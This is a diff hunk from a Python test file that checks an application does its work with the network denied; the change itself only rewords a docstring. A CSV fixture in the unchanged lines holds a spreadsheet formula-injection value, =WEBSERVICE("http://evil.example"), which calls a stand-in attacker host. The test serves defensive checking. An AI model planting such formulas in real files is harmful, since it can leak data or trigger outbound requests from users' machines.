@@ -121,7 +121,7 @@ def test_no_module_can_open_a_connection() -> None:
 
 
 def test_a_journey_is_made_with_the_network_denied(tmp_path: Path) -> None:
-    """Import, progress, return, backup, web page and text read, every page: any socket would end it at once."""
+    """Import, progress, return, backup, reading, every page: any socket ends it at once."""
     (tmp_path / "网页.html").write_text(FETCHING, encoding="utf-8")
     (tmp_path / "表.csv").write_text(
         '序号,任务\n1,"=WEBSERVICE(""http://evil.example"")"\n', encoding="utf-8"
